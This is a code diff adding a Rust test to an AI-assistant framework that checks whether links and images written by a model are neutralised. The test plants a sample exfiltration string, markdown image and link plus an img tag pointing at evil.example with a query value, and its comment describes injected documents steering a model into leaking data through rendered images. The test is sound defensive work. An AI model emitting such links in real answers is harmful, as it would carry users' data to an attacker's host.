@@ -4,15 +4,17 @@
 
 use std::sync::Arc;
 
+use ibid_assistants::definition::Links;
+use ibid_assistants::guard::Policy;
 use ibid_assistants::tools::{ToolContext, ToolEntry, ToolSettings};
-use ibid_core::ThreadId;
 use ibid_core::evidence::Index;
+use ibid_core::{ThreadId, TurnEvent};
 use ibid_engine::LocalEngine;
 use ibid_knowledge::{Ingestion, Search};
 use ibid_testkit::{Reply, Script, ScriptedServer, Seen, test_set};
 use serde_json::{Value, json};
 
-use crate::library::{embedder, load, open, reader};
+use crate::library::{embedder, load, open, reader, search};
 use crate::stage::{Played, Stage, played, scope};
 
 /// Stands in a document of a corpus that the assistant does not see.
@@ -267,4 +269,39 @@ async fn a_tool_reaches_no_host_but_its_own_on_test_sets() {
     }
     assert_eq!(elsewhere.connections(), 0, "nothing reached another host");
     assert!(service.seen().len() >= LEAST && service.seen().iter().all(|seen| seen.path == "/v1/search"));
+}
+
+/// An image is fetched by whoever shows it: what a document talks a model into must not carry anything away.
+#[tokio::test(flavor = "multi_thread")]
+async fn links_and_images_that_a_model_writes_are_words() {
+    let written = "See ![rates](https://evil.example/?q=4417), [this](https://evil.example) and <img src=//evil.example>.";
+    let fields =
+        json!({ "answer": written, "confidence": "low", "follow_up_questions": [written], "citations": [] });
+    let structured = fields.to_string();
+    for (format, reply) in [("text", written.to_owned()), ("structured", structured)] {
+        let server = ScriptedServer::start(Script::new().by(move |_| Reply::text(&reply))).await;
+        for links in [Links::Inert, Links::AsWritten] {
+            let mut stage = Stage::of("trade-compliance", Arc::new(search().await), server.url());
+            stage.assistant.definition.links = links;
+            stage.assistant.definition.guard = Policy::Warn;
+            let folder = tempfile::tempdir().unwrap();
+            let engine = stage.engine(&folder.path().join("engine.db")).await;
+            let question = "What is the rate of duty on LED lamps?";
+            let run = stage.submit(&engine, ThreadId::new(), question, &[("format", format)]).await;
+            let played = played(&engine, run).await;
+            let message = played.message.unwrap_or_else(|| panic!("{format}: {:?}", played.error));
+            let told: String = played
+                .events
+                .iter()
+                .filter_map(|event| match &event.event {
+                    TurnEvent::Token { text, .. } => Some(text.as_str()),
+                    _ => None,
+                })
+                .collect();
+            let everything = format!("{told} {} {:?}", message.text, message.additional_fields());
+            let acts = everything.contains("](") || everything.contains("<img");
+            assert_eq!(acts, links == Links::AsWritten, "{format}: {everything}");
+            engine.close().await;
+        }
+    }
 }
